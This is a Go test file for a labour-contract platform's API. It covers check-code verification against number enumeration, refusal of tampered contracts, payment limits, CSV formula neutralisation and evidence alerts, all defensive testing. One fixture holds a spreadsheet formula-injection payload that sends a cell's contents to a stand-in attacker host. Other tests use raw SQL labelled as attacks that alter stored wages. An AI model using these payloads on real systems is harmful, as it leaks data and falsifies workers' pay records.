package api

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"lingong/domain"
	"lingong/store/storetest"
)

// testCheckCode is the check code the test server prints for a contract number (it runs with
// storetest.TestKey as its secret key).
func testCheckCode(number string) string {
	return domain.ContractCheckCode(domain.DeriveKey(storetest.TestKey, domain.CheckCodeKeyPurpose), number)
}

// Issue 18 item 8: contract numbers are sequential, so /verify needs the number and the check code printed
// on the paper and in the QR code; without the code (or with a wrong one) nothing is learned, and the
// whole run of numbers cannot be enumerated. With it, the page shows the signed wage, unit, period and
// the amounts settled, so a printout with an altered wage disagrees with the screen.
func TestVerifyNeedsTheCheckCodeAndShowsTheMoney(t *testing.T) {
	eachEnv(t, domain.OTPLimits{}, func(t *testing.T, env *testEnv) {
		ct := env.pieceContract("13812346501")
		path := fmt.Sprintf("/api/v1/contracts/%d/ledger", ct.ID)
		today := string(domain.DateOf(env.clock.Now()))
		env.mustJSON("POST", path, ct.Key, map[string]any{"kind": "work", "date": today, "quantity": 100}, 201, nil)
		env.mustJSON("POST", path, ct.Key, map[string]any{"kind": "payment", "amount_fen": 5000, "method": "cash"}, 201, nil)

		code := testCheckCode(ct.Number)
		var got contractAnswer
		env.mustJSON("GET", fmt.Sprintf("/api/v1/contracts/%d", ct.ID), ct.Key, nil, 200, &got)
		var full struct {
			CheckCode string `json:"check_code"`
			VerifyURL string `json:"verify_url"`
		}
		env.mustJSON("GET", fmt.Sprintf("/api/v1/contracts/%d", ct.ID), ct.Key, nil, 200, &full)
		if full.CheckCode != code || full.VerifyURL != testPublicURL+"/verify/"+ct.Number+"?code="+code {
			t.Errorf("the parties get check code %q and verify URL %q; want %q", full.CheckCode, full.VerifyURL, code)
		}
		if len(code) != domain.CheckCodeLen {
			t.Fatalf("check code %q is not %d characters (50 bits)", code, domain.CheckCodeLen)
		}

		// The number alone, a wrong code, a code of another contract: 404, the same as no contract at all.
		wrong := []byte(code)
		wrong[0] ^= 1
		for _, q := range []string{"", "?code=", "?code=" + string(wrong), "?code=" + testCheckCode("ZW-202601-000001"), "?code=" + code[:9]} {
			if st, body, _ := env.do("GET", "/api/v1/verify/"+ct.Number+q, "", nil); st != 404 || strings.Contains(string(body), "马") {
				t.Errorf("GET /api/v1/verify/%s%s = %d %s; want 404 and nothing about the contract", ct.Number, q, st, body)
			}
		}
		// Walking the numbers without codes finds nothing.
		found := 0
		for i := 1; i <= 60; i++ {
			n := fmt.Sprintf("%s%06d", ct.Number[:len(ct.Number)-6], i)
			if st, _, _ := env.do("GET", "/api/v1/verify/"+n, "", nil); st != 404 {
				found++
			}
		}
		if found != 0 {
			t.Errorf("%d of 60 numbers answered without a check code", found)
		}
		// The page without a code asks for it and shows nothing of the contract.
		st, page, _ := env.do("GET", "/verify/"+ct.Number, "", nil, "Accept", "text/html")
		if st != 200 || !strings.Contains(string(page), `id="code-form"`) || strings.Contains(string(page), "记录完整") || strings.Contains(string(page), "马") {
			t.Errorf("/verify without a code: %d, want the form asking for the check code and nothing else", st)
		}
		if st, page, _ := env.do("GET", "/verify/"+ct.Number+"?code="+string(wrong), "", nil, "Accept", "text/html"); st != 404 || !strings.Contains(string(page), "核验码") {
			t.Errorf("/verify with a wrong code: %d, want 404 asking to check the code", st)
		}

		// With the code as printed (grouped, lower case): intact, and the money shows.
		var v verification
		env.mustJSON("GET", "/api/v1/verify/"+ct.Number+"?code="+strings.ToLower(code[:5]+"-"+code[5:]), "", nil, 200, &v)
		if !v.Intact || v.WageFen != 180 || v.WageUnit != domain.PerPiece || v.EarnedFen != 18000 || v.PaidFen != 5000 || v.OutstandingFen != 13000 {
			t.Errorf("verification %+v; want intact, 1.80 元 a piece, earned 180 元, paid 50 元, owed 130 元", v)
		}
		_, page, _ = env.do("GET", "/verify/"+ct.Number+"?code="+code, "", nil, "Accept", "text/html")
		if !strings.HasPrefix(v.WageText, "1.80 元/") {
			t.Errorf("wage text %q; want 1.80 元 per unit", v.WageText)
		}
		for _, want := range []string{v.WageText, "应得 180 元，已付 50 元，未付 130 元", string(v.Start) + " 至 " + string(v.End), "记录完整"} {
			if !strings.Contains(string(page), want) {
				t.Errorf("the verify page lacks %q", want)
			}
		}
	})
}

// Issue 18 item 5: a contract whose stored terms no longer match their hash (or whose wage was edited
// beside them) is refused with a clear Chinese page, a 4xx, never a 500, when its PDF is opened in a
// browser; the API answers the same as JSON.
func TestTamperedContractPDFIsAClearRefusal(t *testing.T) {
	eachEnv(t, domain.OTPLimits{}, func(t *testing.T, env *testEnv) {
		for i, attack := range []string{
			"UPDATE contracts SET terms_json = replace(terms_json, '\"amount_fen\":180', '\"amount_fen\":120') WHERE id = $1",
			"UPDATE contracts SET wage_fen = 120 WHERE id = $1",
		} {
			ct := env.pieceContract(fmt.Sprintf("1381234652%d", i))
			if _, err := env.db.Exec(attack, ct.ID); err != nil {
				t.Fatal(err)
			}
			pdf := fmt.Sprintf("/api/v1/contracts/%d/pdf", ct.ID)
			st, page, h := env.do("GET", pdf, ct.Worker.Token, nil, "Accept", "text/html")
			if st < 400 || st >= 500 || !strings.HasPrefix(h.Get("Content-Type"), "text/html") || !strings.Contains(string(page), "可能被人改动") {
				t.Errorf("%s: PDF in a browser = %d %s; want a 4xx page saying the record was altered", attack, st, h.Get("Content-Type"))
			}
			st, body, _ := env.do("GET", pdf, ct.Key, nil)
			if st != 409 || apiError(t, body).Code != domain.CodeConflict {
				t.Errorf("%s: PDF through the API = %d %s; want 409", attack, st, body)
			}
		}
	})
}

// Issue 18 item 8: a payment dated 1970 was accepted, and an amount over the limit was told it must be
// more than 0. Payments may be dated at most domain.PaymentLeadDays before the contract's start (an
// advance), and an amount over the limit is told the limit.
func TestPaymentDateAndAmountLimits(t *testing.T) {
	eachEnv(t, domain.OTPLimits{}, func(t *testing.T, env *testEnv) {
		ct := env.pieceContract("13812346531") // started three days ago
		path := fmt.Sprintf("/api/v1/contracts/%d/ledger", ct.ID)
		start := domain.DateOf(env.clock.Now()).AddDays(-3)
		at := func(d domain.Date) string { return string(d) + "T12:00:00+08:00" }
		before := env.count("ledger_entries")
		for _, tc := range []struct {
			name, paidAt string
			amount       int64
			field, says  string
		}{
			{"1970", "1970-01-01T08:00:00+08:00", 5000, "paid_at", "付款日期不能早于 " + string(start.AddDays(-domain.PaymentLeadDays))},
			{"a day before the margin", at(start.AddDays(-domain.PaymentLeadDays - 1)), 5000, "paid_at", "合约开始前 30 天"},
			{"a fen over the limit", "", domain.MaxPaymentFen + 1, "amount_fen", "单笔付款不能超过 1000000 元"},
			{"zero", "", 0, "amount_fen", "付款金额"},
		} {
			body := map[string]any{"kind": "payment", "amount_fen": tc.amount, "method": "cash"}
			if tc.paidAt != "" {
				body["paid_at"] = tc.paidAt
			}
			st, b, _ := env.do("POST", path, ct.Key, body)
			e := apiError(t, b)
			if st != 400 || e.Field != tc.field || !strings.Contains(e.Message, tc.says) {
				t.Errorf("%s: %d %+v; want 400 on %s saying %q", tc.name, st, e, tc.field, tc.says)
			}
		}
		if n := env.count("ledger_entries"); n != before {
			t.Errorf("refused payments wrote %d lines", n-before)
		}
		// At the limits: the earliest allowed day, and exactly the maximum.
		env.mustJSON("POST", path, ct.Key, map[string]any{"kind": "payment", "amount_fen": 5000, "method": "cash",
			"paid_at": at(start.AddDays(-domain.PaymentLeadDays))}, 201, nil)
		env.mustJSON("POST", path, ct.Key, map[string]any{"kind": "payment", "amount_fen": domain.MaxPaymentFen, "method": "bank"}, 201, nil)
	})
}

// Issue 18 item 8: the dashboard's CSV wrote names such as =HYPERLINK(…) raw, so a spreadsheet ran them;
// they are neutralised as the payroll's are.
func TestDashboardCSVNeutralisesFormulas(t *testing.T) {
	eachEnv(t, domain.OTPLimits{}, func(t *testing.T, env *testEnv) {
		evil := `=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")`
		empID, key := env.employerWithKey(evil, "ZN-S03")
		w := env.register("13812346541", nil)
		today := domain.DateOf(env.clock.Now())
		job := env.jobFrom(empID, "ZN-S03", domain.PerDay, 15000, domain.SettleDaily, today.AddDays(-10), today.AddDays(10), "08:00-17:00")
		ct := env.signedOn(job, w, "13812346541", key)
		st, _ := env.store.StationByCode(env.t.Context(), "ZN-S03")
		if _, err := env.db.Exec(`INSERT INTO arrears_alerts (contract_id, employer_id, station_id, due_date, amount_fen, raised_at)
			VALUES ($1, $2, $3, $4, 15000, $5)`, ct.ID, empID, st.ID, string(today.AddDays(-5)), env.clock.Now()); err != nil {
			t.Fatal(err)
		}
		code, body, h := env.do("GET", "/console/dashboard.csv?table=arrears", env.admin, nil)
		if code != http.StatusOK || !strings.HasPrefix(h.Get("Content-Type"), "text/csv") {
			t.Fatalf("dashboard CSV: %d %s", code, body)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(body), "\uFEFF"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := false
		for _, row := range rows {
			for _, cell := range row {
				if strings.Contains(cell, "HYPERLINK") {
					seen = true
					if cell != "'"+evil {
						t.Errorf("cell %q; want it neutralised as '%s", cell, evil)
					}
				}
				if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
					t.Errorf("a cell starts a formula: %q", cell)
				}
			}
		}
		if !seen {
			t.Fatalf("the employer is not in the arrears table:\n%s", body)
		}
	})
}

// Issue 18 item 5: the daily sweep's finding is an alert on the console (today's page of every staff
// member), and the evidence page lists each check with the audit chain's head, to be printed and filed.
func TestConsoleShowsTheEvidenceAlertAndTheChainHead(t *testing.T) {
	eachEnv(t, domain.OTPLimits{}, func(t *testing.T, env *testEnv) {
		ct := env.pieceContract("13812346551")
		staff, _ := env.createStaff("zn-evidence", "ZN-S03")
		ok, err := env.server.app.VerifyEvidence(t.Context(), "sweep")
		if err != nil || !ok.Intact {
			t.Fatalf("before the attack: %+v %v", ok, err)
		}
		_, page, _ := env.do("GET", "/console", staff, nil, "Accept", "text/html")
		if !strings.Contains(string(page), `id="evidence-ok"`) || !strings.Contains(string(page), ok.HeadHash) {
			t.Errorf("today's page does not show the intact check with the chain head %s", ok.HeadHash)
		}

		if _, err := env.db.Exec("UPDATE contracts SET wage_fen = 99900 WHERE id = $1", ct.ID); err != nil {
			t.Fatal(err)
		}
		broken, err := env.server.app.VerifyEvidence(t.Context(), "sweep")
		if err != nil || broken.Intact {
			t.Fatalf("after the attack: %+v %v", broken, err)
		}
		_, page, _ = env.do("GET", "/console", staff, nil, "Accept", "text/html")
		if !strings.Contains(string(page), `id="evidence-alert"`) || !strings.Contains(string(page), "数据核验发现 1 处记录被改动") {
			t.Errorf("today's page shows no alert after the sweep found the edited wage")
		}
		st, page, _ := env.do("GET", "/console/evidence", staff, nil, "Accept", "text/html")
		for _, want := range []string{"合约 " + ct.Number + "：合约的工钱与签署的条款不符：条款为 1.80 元，记录为 999 元", ok.HeadHash, broken.HeadHash, "每日自动"} {
			if st != 200 || !strings.Contains(string(page), want) {
				t.Errorf("the evidence page (%d) lacks %q", st, want)
			}
		}
	})
}
